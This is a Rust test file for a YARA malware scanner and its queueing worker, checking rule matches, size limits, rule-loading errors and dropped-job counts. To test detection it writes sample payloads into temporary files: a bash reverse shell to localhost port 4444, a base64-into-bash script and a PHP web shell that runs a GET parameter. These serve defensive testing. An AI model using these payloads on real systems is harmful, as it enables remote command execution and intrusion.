//! The YARA scanner and its worker, on real files (feature `yara`).

// Helpers outside #[test] functions may panic too: a failed test.
#![allow(clippy::expect_used)]

use std::{
    path::{Path, PathBuf},
    sync::mpsc,
    time::Duration,
};

use detect::yara::{
    YaraLoadError, YaraRules, YaraStore,
    worker::{self, Job, Trigger, WorkerSettings},
};

/// An ELF header followed by a reverse-shell command, as a dropper has it.
fn elf_with_reverse_shell() -> Vec<u8> {
    let mut data = b"\x7fELF\x02\x01\x01\0".to_vec();
    data.extend_from_slice(&[0u8; 56]);
    data.extend_from_slice(b"\0bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\0");
    data
}

fn write(dir: &Path, name: &str, data: &[u8]) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, data).expect("write");
    p
}

#[test]
fn default_pack_matches_its_samples_and_not_benign_look_alikes() {
    let rules = YaraRules::load(true, &[]).expect("default pack compiles");
    assert_eq!(rules.len(), 3);
    let mut scanner = rules.scanner();
    let dir = tempfile::tempdir().expect("tempdir");
    let elf = write(dir.path(), "implant", &elf_with_reverse_shell());
    let got = scanner.scan_path(&elf, 1 << 20, None).expect("scans");
    assert_eq!(got.matches.len(), 1, "{got:?}");
    let m = &got.matches[0];
    assert_eq!(
        (m.namespace.as_str(), m.identifier.as_str()),
        ("elf_reverse_shell", "elf_reverse_shell_string")
    );
    assert_eq!(m.source, "builtin:elf_reverse_shell.yar");
    assert_eq!(
        (m.level.as_str(), m.author.as_str()),
        ("critical", "rxsentry")
    );
    assert_eq!(m.attack_ids, ["T1059.004", "T1095"]);
    assert_eq!(got.sha256.len(), 64);
    assert_eq!(got.size, elf_with_reverse_shell().len() as u64);

    // The same string in a text file (documentation, a shell history) is
    // not an ELF: no match.
    let text = write(
        dir.path(),
        "notes.txt",
        b"never run: bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n",
    );
    assert!(
        scanner
            .scan_path(&text, 1 << 20, None)
            .expect("scans")
            .matches
            .is_empty()
    );

    let script = write(
        dir.path(),
        "update.sh",
        b"#!/bin/sh\necho ZWNobyBoaQo= | base64 -d | bash\n",
    );
    let got = scanner.scan_path(&script, 1 << 20, None).expect("scans");
    assert_eq!(got.matches.len(), 1);
    assert_eq!(got.matches[0].identifier, "script_base64_into_shell");
    // Decoding into a file is what backups do: no match.
    let benign = write(
        dir.path(),
        "restore.sh",
        b"#!/bin/sh\nbase64 -d backup.b64 > backup.tar\n",
    );
    assert!(
        scanner
            .scan_path(&benign, 1 << 20, None)
            .expect("scans")
            .matches
            .is_empty()
    );

    let shell = write(
        dir.path(),
        "x.php",
        b"<?php if (isset($_GET['c'])) { system($_GET['c']); } ?>",
    );
    let got = scanner.scan_path(&shell, 1 << 20, None).expect("scans");
    assert_eq!(got.matches[0].identifier, "webshell_request_to_exec");
    let page = write(
        dir.path(),
        "index.php",
        b"<?php echo htmlspecialchars($_GET['name']); system('date'); ?>",
    );
    assert!(
        scanner
            .scan_path(&page, 1 << 20, None)
            .expect("scans")
            .matches
            .is_empty()
    );
}

#[test]
fn a_file_over_the_limit_is_not_scanned() {
    let rules = YaraRules::load(true, &[]).expect("compiles");
    let mut scanner = rules.scanner();
    let dir = tempfile::tempdir().expect("tempdir");
    let elf = elf_with_reverse_shell();
    let path = write(dir.path(), "implant", &elf);
    let max = elf.len() as u64 - 1;
    let err = scanner.scan_path(&path, max, None).expect_err("too large");
    assert!(err.to_string().contains("max_file_bytes"), "{err}");
    // Exactly the limit is scanned.
    let got = scanner.scan_path(&path, max + 1, None).expect("scans");
    assert_eq!(got.matches.len(), 1);
    // A FIFO in its place is refused without blocking.
    let fifo = dir.path().join("fifo");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .expect("mkfifo")
            .success()
    );
    let err = scanner.scan_path(&fifo, 1 << 20, None).expect_err("a fifo");
    assert!(err.to_string().contains("not a regular file"), "{err}");
}

#[test]
fn a_rule_file_that_does_not_compile_is_refused_naming_the_file() {
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "good.yar",
        b"rule soc_marker { strings: $a = \"SOC-MARKER-1\" condition: $a }",
    );
    let bad = write(
        dir.path(),
        "bad.yar",
        b"rule broken { strings: $a = \"x\" condition: $b }",
    );
    let err = YaraRules::load(true, &[dir.path().to_owned()]).expect_err("refused");
    let YaraLoadError::Refused(refused) = &err else {
        panic!("{err}");
    };
    assert_eq!(refused.len(), 1);
    assert_eq!(refused[0].file, bad.display().to_string());
    assert!(refused[0].message.contains("$b"), "{}", refused[0].message);
    // A missing directory fails too, naming it.
    let missing = dir.path().join("nope");
    let err = YaraRules::load(false, std::slice::from_ref(&missing)).expect_err("missing");
    assert!(
        err.to_string().contains(&missing.display().to_string()),
        "{err}"
    );

    std::fs::remove_file(&bad).expect("rm");
    let rules = YaraRules::load(true, &[dir.path().to_owned()]).expect("loads");
    assert_eq!(rules.len(), 4);
    let got = rules
        .scanner()
        .scan_bytes(b"..SOC-MARKER-1..")
        .expect("scans");
    assert_eq!(got.matches[0].namespace, "good");
    assert_eq!(
        got.matches[0].source,
        dir.path().join("good.yar").display().to_string()
    );
    assert_eq!(got.matches[0].level, "high", "the default level");
}

#[test]
fn the_worker_reports_matches_and_counts_what_it_drops() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = YaraStore::new(YaraRules::load(true, &[]).expect("compiles"));
    let (tx, rx) = mpsc::channel();
    let settings = WorkerSettings {
        capacity: 2,
        max_file_bytes: 1 << 20,
        settle: Duration::from_millis(50),
    };
    // The callback blocks on `gate` for the first match: the queue fills.
    let (gate_tx, gate_rx) = mpsc::channel::<()>();
    let (queue, handle) = worker::spawn(store, settings, move |job: Job<u32>, outcome| {
        if job.tag == 1 {
            let _ = gate_rx.recv();
        }
        tx.send((job.tag, job.trigger, outcome)).expect("send");
    })
    .expect("spawn");
    let implant = write(dir.path(), "implant", &elf_with_reverse_shell());
    let benign = write(dir.path(), "benign", b"\x7fELF plain");
    let job = |tag, trigger, path: &Path| Job {
        trigger,
        paths: vec![dir.path().join("gone"), path.to_owned()],
        identity: None,
        tag,
    };
    assert!(queue.submit(job(1, Trigger::Exec, &implant)));
    // Wait until the worker holds job 1 (blocked in the callback): the
    // queue is then empty and takes exactly `capacity` more.
    while queue.stats().scanned < 1 {
        std::thread::yield_now();
    }
    assert!(queue.submit(job(2, Trigger::Exec, &benign)));
    assert!(queue.submit(job(3, Trigger::Exec, &implant)));
    assert!(!queue.submit(job(4, Trigger::Exec, &implant)), "full");
    assert_eq!(queue.stats().dropped_queue_full, 1);
    gate_tx.send(()).expect("open the gate");
    let (tag, trigger, outcome) = rx.recv().expect("first match");
    assert_eq!((tag, trigger), (1, Trigger::Exec));
    assert_eq!(outcome.matches[0].identifier, "elf_reverse_shell_string");
    let (tag, _, _) = rx.recv().expect("second match");
    assert_eq!(tag, 3, "the benign file made no match");

    let stats = queue.stats();
    assert_eq!(
        (stats.scanned, stats.files_matched, stats.queued),
        (3, 2, 3),
        "{stats:?}"
    );
    assert_eq!(
        stats.errors, 0,
        "the missing first path fell back: {stats:?}"
    );
    drop(queue);
    handle
        .join()
        .expect("worker ends when the queue is dropped");
    assert!(rx.try_recv().is_err(), "nothing more");
}

#[test]
fn written_files_settle_into_one_scan_and_oversized_ones_are_counted() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = YaraStore::new(YaraRules::load(true, &[]).expect("compiles"));
    let (tx, rx) = mpsc::channel();
    let settings = WorkerSettings {
        capacity: 16,
        max_file_bytes: 1 << 20,
        // Long enough that a loaded machine cannot split the burst.
        settle: Duration::from_secs(1),
    };
    let (queue, handle) = worker::spawn(store, settings, move |job: Job<u32>, outcome| {
        tx.send((job.tag, job.trigger, outcome)).expect("send");
    })
    .expect("spawn");
    let implant = write(dir.path(), "implant", &elf_with_reverse_shell());
    let job = |tag, trigger, path: &Path| Job {
        trigger,
        paths: vec![path.to_owned()],
        identity: None,
        tag,
    };
    // Three writes to one file settle into one scan, for the last writer.
    for tag in 10..13 {
        assert!(queue.submit(job(tag, Trigger::Write, &implant)));
    }
    let (tag, trigger, _) = rx.recv().expect("settled match");
    assert_eq!((tag, trigger), (12, Trigger::Write));
    // A file over max_file_bytes is counted, not scanned; jobs run in
    // order, so once the next match arrives it has been counted.
    let big = write(dir.path(), "big", &vec![b'A'; (1 << 20) + 1]);
    assert!(queue.submit(job(20, Trigger::Exec, &big)));
    assert!(queue.submit(job(21, Trigger::Exec, &implant)));
    assert_eq!(rx.recv().expect("match after the big file").0, 21);
    let stats = queue.stats();
    assert_eq!(stats.too_large, 1, "{stats:?}");
    assert_eq!((stats.scanned, stats.files_matched), (2, 2), "{stats:?}");
    assert_eq!(
        (stats.queued, stats.dropped_queue_full),
        (5, 0),
        "{stats:?}"
    );
    drop(queue);
    handle
        .join()
        .expect("worker ends when the queue is dropped");
    assert!(rx.try_recv().is_err(), "nothing more");
}
